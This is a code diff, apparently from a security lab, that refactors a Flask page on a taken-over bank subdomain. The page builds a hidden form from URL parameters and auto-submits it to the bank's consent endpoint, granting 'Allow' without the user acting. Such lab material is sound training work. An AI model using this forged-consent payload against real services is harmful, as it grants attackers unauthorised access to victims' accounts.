@@ -8,11 +8,12 @@ from labs.chromium import BrowserStage
 from labs.stage import Stage, Stuck
 from labs.steps import step
 
-FORM = """<!doctype html><html lang="en"><title>Spring sale</title><h1>Spring sale</h1><p>One moment …</p>
-<form method="post" action="{{ action }}">
+PAGE = """{% extends "pages/sale.html" %}
+{% block form %}<form method="post" action="{{ action }}">
 {% for name, value in fields %}<input type="hidden" name="{{ name }}" value="{{ value }}">
-{% endfor %}</form><script>document.forms[0].submit();</script></html>"""
-sale = Flask(__name__)
+{% endfor %}</form>{% endblock %}
+{% block script %}<script>document.forms[0].submit();</script>{% endblock %}"""
+sale = Flask(__name__, template_folder="../templates", static_folder="../static")
 HOSTS = {"shop.auth": sale}  # a subdomain of the bank's that somebody gave up, and somebody else took
 
 
@@ -20,8 +21,8 @@ HOSTS = {"shop.auth": sale}  # a subdomain of the bank's that somebody gave up, 
 def sends_itself() -> Response:
     """Send the consent form of the request that stands in the address, with “Allow” pressed."""
     action = f"{request.environ['labs.world'].here.auth}/consent"
-    page = Response(render_template_string(FORM, action=action, fields=list(request.args.items())))
-    page.headers["Content-Security-Policy"] = "default-src 'none'; script-src 'unsafe-inline'"
+    page = Response(render_template_string(PAGE, action=action, fields=list(request.args.items())))
+    page.headers["Content-Security-Policy"] = "default-src 'none'; style-src 'self'; script-src 'unsafe-inline'"
     return page
 
 
